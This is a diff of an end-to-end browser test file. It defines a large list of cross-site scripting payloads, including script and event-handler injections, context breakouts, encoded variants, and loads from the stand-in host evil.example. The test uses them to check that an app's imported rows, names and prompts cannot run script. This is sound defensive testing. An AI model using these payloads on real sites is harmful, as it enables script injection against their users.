@@ -9,12 +9,89 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from tests.e2e.doors import document, launch
-from tests.e2e.payloads import ELSEWHERE, PAYLOADS
 from tests.e2e.run_page import run_number, wait_until_final
-from tests.e2e.site import Site
 from tests.e2e.witness import Witness
+from tests.harness.site import ServedSite
 
 pytestmark = pytest.mark.late
+
+# Each tries to open a dialog, to fetch from another site, or to run what the policy forbids: a
+# browser shows which of them got through.
+ELSEWHERE = "http://evil.example"
+
+ELEMENTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    f"<script src={ELSEWHERE}/a.js></script>",
+    f"<script src=//{ELSEWHERE.removeprefix('http://')}/b.js></script>",
+    "<script>alert(1)",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\n>",
+    "<script type=module>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<IMG SRC=x OnErRoR=alert`1`>",
+    "<img/src=x/onerror=alert(1)>",
+    f"<img src={ELSEWHERE}/pixel.png>",
+    f"<img srcset='{ELSEWHERE}/pixel.png 1x'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    f"<svg><image href={ELSEWHERE}/i.svg /></svg>",
+    f"<svg><use href={ELSEWHERE}/s.svg#x /></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    f"<iframe src={ELSEWHERE}></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    f"<object data={ELSEWHERE}/o.swf></object>",
+    f"<embed src={ELSEWHERE}/e.swf>",
+    f"<link rel=stylesheet href={ELSEWHERE}/l.css>",
+    f"<link rel=prefetch href={ELSEWHERE}/p>",
+    f"<style>@import '{ELSEWHERE}/s.css';</style>",
+    f"<style>*{{background:url({ELSEWHERE}/bg)}}</style>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
+    f"<base href={ELSEWHERE}/>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    f"<video poster={ELSEWHERE}/v.png></video>",
+    f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<form action=javascript:alert(1)><button autofocus>go</button></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<xss style='animation-name:x' onanimationstart=alert(1)></xss>",
+]
+BREAKOUTS = [
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" autofocus onfocus=alert(1) x="',
+    "' autofocus onfocus=alert(1) x='",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</pre><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{% debug %}",
+    "${alert(1)}",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    f"[text](javascript:alert(1)) ![image]({ELSEWHERE}/m.png)",
+    "');alert(1);//",
+    "\u202etxt.<script>alert(1)</script>",
+]
+PAYLOADS = ELEMENTS + BREAKOUTS
 
 NAME = '"><img src=x onerror=alert(1)></title><script>alert(1)</script>'
 TEXTS = [*PAYLOADS, "\n".join(PAYLOADS)]  # the last case holds all of them
@@ -42,7 +119,7 @@ def reply(number: int) -> dict[str, Any]:
 
 
 @pytest.fixture
-def hostile(page: Page, witness: Witness, site: Site, demo: int) -> int:
+def hostile(page: Page, witness: Witness, site: ServedSite, demo: int) -> int:
     """A finished run in which every text that a stranger can choose is a payload."""
     rows = [
         {"question": question(number), "expected": text, NAME[:60]: text}
@@ -54,12 +131,12 @@ def hostile(page: Page, witness: Witness, site: Site, demo: int) -> int:
     expect(page.get_by_role("table", name="Preview of the rows")).to_contain_text(question(0))
     page.get_by_role("button", name="Import").click()
     expect(page.get_by_role("heading", level=1)).to_have_text(f"{NAME} v1")
-    site.simulator.follow(script())
-    site.simulator.answer_in(milliseconds=1)
+    site.simulator.play(*script())
+    site.simulator.change(latency_ms=1)
     prompts = [{"name": NAME, "system": PAYLOADS[0], "user": "{{question}}"}]
     launch(page, document(NAME, dataset=NAME, prompts=prompts, scorers=["exact"]))
     wait_until_final(page)
-    site.simulator.follow([])
+    site.simulator.play()
     return run_number(page)
 
 
